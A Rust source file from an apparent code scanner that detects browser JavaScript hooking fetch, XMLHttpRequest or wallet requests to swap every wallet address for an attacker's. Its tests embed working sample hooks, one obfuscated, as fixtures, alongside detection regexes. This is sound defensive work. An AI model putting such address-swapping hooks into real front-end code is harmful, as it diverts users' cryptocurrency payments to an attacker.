//! A request hook that swaps wallet addresses: code shipped to a browser that replaces `fetch`,
//! `XMLHttpRequest`'s methods or a wallet provider's `request` with its own function, and rewrites every
//! wallet address in what passes through to a fixed one of the attacker's.
//!
//! Hijacked front-end packages (2025's wave of compromised npm maintainers) did this in their bundles: the
//! page's payments go to the attacker. The code needs three things in one file: a function assigned over a
//! request function (often under a computed name, `g[k] = function`), a global replacement of the
//! wallet-address pattern, and a fixed address written in the code. A retry or logging wrapper replaces
//! `fetch` but never rewrites addresses; a redactor masks addresses with a placeholder, not an address; a
//! wallet library validates addresses and writes contract addresses without hooking requests.

use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use skill_scan_model::Language;
use std::sync::LazyLock;

pub(crate) static REQUEST_ADDRESS_SWAP: FileDetector = FileDetector {
    literals: &["{40}"],
    run: find_request_swaps,
};

/// A function assigned over a request function: `fetch = …`, `XMLHttpRequest.prototype.send = …`,
/// `provider.request = …`, or a member named by a computed key (`g[k] = function`).
// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static HOOK: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"(?:\bfetch|\.(?:send|open|request|sendAsync|sendTransaction)|\[\s*[A-Za-z_$][\w$]*\s*\])",
        r"\s*=\s*(?:async\s+)?(?:function\b|\(?[\w$\s,.]*\)?\s*=>)"
    ))
    .expect("hook pattern")
});

/// Every Ethereum-style address in a text replaced by an address written in the code or a name:
/// `.replace(/0x[a-fA-F0-9]{40}/g, mine)`.
#[allow(clippy::expect_used)]
static REPLACE_ALL_ADDRESSES: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"\.replace(?:All)?\s*\(\s*/\\?b?0x\[[a-fA-F0-9-]+\]\{40\}(?:\\b)?/[a-z]*g[a-z]*\s*,\s*",
        r#"(?:["'`](?P<literal>0x[0-9a-fA-F]{40})["'`]|(?P<name>[A-Za-z_$][\w$]*)\s*\))"#
    ))
    .expect("replace pattern")
});

/// `NAME = '0x…'` or `NAME: '0x…'`: a name bound to an address written in the code.
#[allow(clippy::expect_used)]
static BOUND_ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r#"(?P<name>[A-Za-z_$][\w$]*)\s*[:=]\s*["'`](?P<address>0x[0-9a-fA-F]{40})["'`]"#)
        .expect("bound address pattern")
});

/// The fixed address the replacement writes: written in the call, or bound to the name it passes.
fn replacement_address(body: &str) -> Option<regex::Match<'_>> {
    for replace in REPLACE_ALL_ADDRESSES.captures_iter(body) {
        if let Some(literal) = replace.name("literal") {
            return Some(literal);
        }
        let Some(name) = replace.name("name") else {
            continue;
        };
        let bound = BOUND_ADDRESS
            .captures_iter(body)
            .find(|b| b.name("name").is_some_and(|n| n.as_str() == name.as_str()));
        if let Some(address) = bound.and_then(|b| b.name("address")) {
            return Some(address);
        }
    }
    None
}

fn find_request_swaps(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    if !matches!(
        segment.language,
        Language::Javascript | Language::Typescript
    ) {
        return;
    }
    let body = segment.text(text);
    if !HOOK.is_match(body) {
        return;
    }
    let Some(address) = replacement_address(body) else {
        return;
    };
    keep(Hit {
        start: segment.start + address.start(),
        end: segment.start + address.end(),
        detail: Some(Box::new(HitDetail {
            message: format!(
                "Code replaces a request function and rewrites every wallet address passing through it to a fixed one: {}",
                address.as_str()
            ),
            related: Vec::new(),
        })),
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fires(text: &str) -> bool {
        crate::native::file_detector_fires(
            find_request_swaps,
            text,
            "dist/index.js",
            Language::Javascript,
        )
    }

    const HOOKED: &str = "(function (g) {\n  var k = ['fe', 'tch'].join('');\n  var orig = g[k];\n  var mine = '0x1111111111111111111111111111111111111111';\n  g[k] = function (u, o) {\n    if (o && typeof o.body === 'string') o.body = o.body.replace(/0x[a-fA-F0-9]{40}/g, mine);\n    return orig.call(this, u, o);\n  };\n})(window);\n";

    #[test]
    fn a_request_hook_swapping_addresses_fires() {
        assert!(fires(HOOKED));
        let xhr = "const send = XMLHttpRequest.prototype.send;\nconst ME = '0x2222222222222222222222222222222222222222';\nXMLHttpRequest.prototype.send = function (b) {\n  return send.call(this, String(b).replace(/0x[0-9a-fA-F]{40}/gi, ME));\n};\n";
        assert!(fires(xhr));
    }

    #[test]
    fn wrappers_redactors_and_wallet_libraries_are_quiet() {
        // A retry wrapper: hooks fetch, rewrites nothing.
        let retry = "const orig = window.fetch;\nwindow.fetch = (u, o) => orig(u, o).catch(() => orig(u, o));\nconst ZERO = '0x0000000000000000000000000000000000000000';\nconst ok = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);\n";
        assert!(!fires(retry));
        // A log redactor: masks addresses with a placeholder, though it holds an address of its own.
        let redact = "const T = '0x4444444444444444444444444444444444444444';\nconst orig = console.log;\nconsole.log = (...a) => orig(...a.map((s) => String(s).replace(/0x[a-fA-F0-9]{40}/g, '0x…')));\nwindow.fetch = function (u, o) { return orig2(u, o); };\n";
        assert!(!fires(redact));
        // A wallet library: validates, holds a contract address, hooks nothing.
        let lib = "export const ROUTER = '0x3333333333333333333333333333333333333333';\nexport const norm = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, lower);\nprovider.request = (a) => send(a);\n";
        assert!(!fires(lib));
    }
}
